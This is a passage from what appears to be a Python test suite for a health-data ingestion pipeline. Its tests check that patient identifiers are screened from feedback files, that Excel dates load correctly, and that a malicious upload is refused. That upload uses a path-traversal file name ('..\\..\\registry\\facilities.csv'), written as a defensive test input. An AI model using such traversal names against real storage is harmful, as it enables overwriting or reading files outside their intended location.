        "SELECT message, coalesce(message_hi, ''), coalesce(observed, ''), coalesce(expected, '') FROM dq.result")]
    documents = [p for p in (landing / "feedback").rglob("*") if p.is_file()]
    documents += list((landing / "quarantine").rglob("*.reason.txt"))
    assert len(documents) > 30
    texts += [p.read_text(encoding="utf-8") for p in documents]
    for identifier in (RCH_ID, MOBILE):
        leaks = [t[:200] for t in texts if identifier in t]
        assert not leaks, leaks
    # The identifiers were in the files; they were screened out, not missed.
    reasons = " ".join(texts)
    assert "12-digit number" in reasons and "10-digit number" in reasons
    assert rows("SELECT count(*) FROM ingest.staged_value WHERE value_raw LIKE %s OR item_code LIKE %s",
                (f"%{RCH_ID}%", f"%{RCH_ID}%")) == [(0,)]


def test_a_key_that_climbs_out_of_the_store_is_refused_and_the_run_goes_on(warehouse, landing, tmp_path, monkeypatch):
    """On a local store a backslash name is the path-traversal key that can exist
    (``..\\..\\x.csv`` is one file name on Linux, a climb on Windows and through some S3 tools)."""
    monkeypatch.setenv("HMIS_DATA_DOCS", "off")
    truth = generate(tmp_path / "demo", AS_OF, months=1)
    for name in ("facilities.csv", "contacts.csv"):
        write(landing, f"registry/{name}", (tmp_path / "demo" / "registry" / name).read_bytes(), FIRST_ARRIVAL)
    good = sorted(f for (f, p), s in truth.scenario.items() if p == PERIOD and s == "on_time")[0]
    write(landing, f"submissions/{PERIOD}/{good}.csv", table(long_records(good, report_of(truth, good))).encode(),
          FIRST_ARRIVAL)
    write(landing, f"submissions/{PERIOD}/..\\..\\registry\\facilities.csv", b"facility_id\n", FIRST_ARRIVAL)
    run_stages(AS_OF)
    status, reason, quarantined = rows(
        "SELECT status, reason, quarantine_key FROM ingest.file WHERE key LIKE %s", ("%registry%",))[0]
    assert status == "rejected" and "not a plain relative path" in reason
    assert "could not be copied" in reason
    assert (landing / f"{quarantined}.reason.txt").read_text(encoding="utf-8").strip() == reason
    assert rows("SELECT count(*) FROM facts.monthly_value WHERE facility_id = %s", (good,))[0][0] > 0


def test_a_date_of_last_supply_typed_as_an_excel_date_loads_as_that_date(warehouse, landing, tmp_path, monkeypatch):
    """Excel turns a typed 12/10/2026 into a date cell, as it turns a typed 2026-10 into 1 October
    2026 (which the period column reads back as the month): the date is what the facility meant."""
    monkeypatch.setenv("HMIS_DATA_DOCS", "off")
    truth = generate(tmp_path / "demo", AS_OF, months=1)
    for name in ("facilities.csv", "contacts.csv"):
        write(landing, f"registry/{name}", (tmp_path / "demo" / "registry" / name).read_bytes(), FIRST_ARRIVAL)
    types = facility_types(tmp_path / "demo" / "registry" / "facilities.csv")
    facility = next(f for (f, p), s in sorted(truth.scenario.items())
                    if p == PERIOD and s == "on_time" and types[f] == "PHC")
    report = report_of(truth, facility)
    records = long_records(facility, report)
    dates = {row[2]: datetime.strptime(row[3], "%d/%m/%Y") for row in records[1:]
             if load_catalogue().item(report.format_id, row[2]).value_type == "date"}
    assert dates
    write(landing, f"submissions/{PERIOD}/{facility}.xlsx", workbook([("Report", [records[0]] + [
        [*row[:3], dates.get(row[2]) or typed(row[3])] for row in records[1:]])]), FIRST_ARRIVAL)
    run_stages(AS_OF)
    assert rows("SELECT status, reason FROM ingest.file") == [("loaded", None)]
    assert _values(facts()[facility]) == truth.values[(facility, PERIOD)]
